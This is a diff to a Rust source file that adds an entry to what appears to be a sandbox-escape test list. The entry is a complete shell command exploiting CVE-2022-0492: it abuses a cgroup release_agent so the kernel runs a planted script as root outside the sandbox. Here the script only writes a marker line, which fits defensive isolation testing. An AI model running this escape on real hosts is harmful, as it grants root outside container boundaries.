@@ -40,6 +40,17 @@ const MACHINE: &[Attack] = &[
         Root,
     )
     .or_lacks("this kernel has no magic keys"),
+    Attack::new(
+        "release-agent",
+        "CVE-2022-0492: the kernel starts what a cgroup names, as root, outside, when its last process ends",
+        Program::Shell(
+            "work='mkdir -p {shared}/cg; mount -t cgroup -o none,name=airlock none {shared}/cg; for cg in {shared}/cg /sys/fs/cgroup /sys/fs/cgroup/*; do \
+             echo {shared}/agent > $cg/release_agent && mkdir $cg/x && echo 1 > $cg/x/notify_on_release && sh -c \"echo \\$\\$ > $cg/x/cgroup.procs\"; done'; \
+             printf '#!/bin/sh\necho fell >> {file}\n' > {shared}/agent; chmod 755 {shared}/agent; unshare --mount sh -c \"$work\" || sh -c \"$work\"; sleep 0.5",
+        ),
+        Victim::File,
+        Root,
+    ),
     kernel("clock", "the machine's clock", &["clock", "{name}"], Victim::Clock),
     kernel(
         "reboot",
